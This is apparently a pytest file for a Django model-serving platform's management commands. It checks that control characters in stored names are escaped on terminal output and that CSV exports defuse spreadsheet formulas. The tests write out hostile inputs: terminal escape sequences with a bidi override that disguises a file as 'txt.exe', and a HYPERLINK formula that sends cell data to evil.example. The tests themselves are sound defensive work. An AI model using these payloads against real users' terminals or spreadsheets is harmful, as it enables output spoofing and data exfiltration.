"""What others wrote is shown on a terminal and not obeyed, and is a text in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from rich.console import Console

from accounts.ledger import statements
from accounts.management.plain import plain, plain_json
from accounts.models import APIKey, Tenant
from inference.management.commands import top
from inference.models import Adapter, ServedModel

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b1m\x08\r\x7f\u202etxt.exe [/red] [bold]"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.unit
def test_control_characters_are_shown_in_whatever_holds_them() -> None:
    assert plain("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert plain("left\u202eright\x9b") == "left\\u202eright\\x9b"
    assert plain("two\nlines\tand täxt 漢字 🙂") == "two\nlines\tand täxt 漢字 🙂"
    assert plain({"\x1b": ["\x07", ("\x08", 1, None)], "n": 1.5}) == {"\\x1b": ["\\x07", ("\\x08", 1, None)], "n": 1.5}


@pytest.mark.unit
def test_json_says_the_same_with_fewer_characters() -> None:
    value = {"name": ESCAPES}
    text = plain_json(json.dumps(value, ensure_ascii=False))
    assert not OBEYED.search(text) and json.loads(text) == value


@pytest.fixture
def hostile(cast: Any) -> str:
    """A tenant, a key, a model and an adapter by that name."""
    Tenant.objects.filter(pk=cast.alice.tenant.pk).update(name=f"A{ESCAPES}")
    APIKey.objects.filter(pk=cast.alice.key.pk).update(name=f"K{ESCAPES}")
    model = ServedModel.objects.create(
        name=f"M{ESCAPES}", path=f"/models/{ESCAPES}.gguf", digest="a" * 64, metadata={"quantization": ESCAPES}
    )
    Adapter.objects.create(base_model=model, name=f"L{ESCAPES}", path=f"/{ESCAPES}", digest="b" * 64, targets=[ESCAPES])
    return f"A{ESCAPES}"


COMMANDS = [
    ["usage"],
    ["models"],
    ["adapters"],
    ["top", "--once"],
    ["stored_responses"],
    ["set_quota", "--tenant"],
    ["allowed_origins", "--tenant"],
    ["create_key"],
]


@pytest.mark.integration
@pytest.mark.django_db
@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: words[0])
@pytest.mark.parametrize("form", [[], ["--json"]], ids=["text", "json"])
def test_no_command_obeys_a_name(hostile: str, words: list[str], form: list[str]) -> None:
    out = io.StringIO()
    given = [hostile] if words[-1] in ("--tenant", "create_key") else []
    call_command(*words, *given, *form, stdout=out)
    printed = out.getvalue()
    assert not OBEYED.search(printed), repr(printed)
    if not form and words[0] != "top":  # that has rows of those alone who have asked a moment ago
        assert "\\x1b" in printed and "[/red]" in printed, "it is shown"


@pytest.mark.integration
@pytest.mark.django_db
def test_no_error_of_a_command_obeys_what_it_repeats() -> None:
    for form in ([], ["--json"]):
        out = io.StringIO()
        with pytest.raises(CommandError) as caught:
            call_command("set_quota", "--tenant", ESCAPES, *form, stdout=out)
        assert not OBEYED.search(str(caught.value)) and not OBEYED.search(out.getvalue())


@pytest.mark.unit
def test_the_live_view_obeys_nothing_that_a_worker_says_of_itself() -> None:
    model = {"name": ESCAPES, "state": ESCAPES, "error": ESCAPES, "busy": 1, "slots": 2, "steps": 3, "adapters": 0}
    worker = {"worker": ESCAPES, "pool": ESCAPES, "seconds": 3, "stopping": False, "models": [model]}
    found = {"at": "now", "redis": True, "pools": [{"pool": ESCAPES, "waiting": 1}], "workers": [worker], "tenants": []}
    out = io.StringIO()
    console = Console(file=out, width=2000, markup=False, emoji=False, highlight=False, force_terminal=False)
    console.print(top.screen_of(plain(found), None, 1.0))
    assert not OBEYED.search(out.getvalue()) and "\\x1b" in out.getvalue()


@pytest.mark.unit
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_name_is_no_formula_in_a_spreadsheet(sign: str) -> None:
    name = f'{sign}HYPERLINK("http://evil.example?"&A1,"more")'
    text = statements.table(("model", "key", "requests"), [{"model": name, "key": "", "requests": -3}])
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row == {"model": f"'{name}", "key": "", "requests": "-3"}
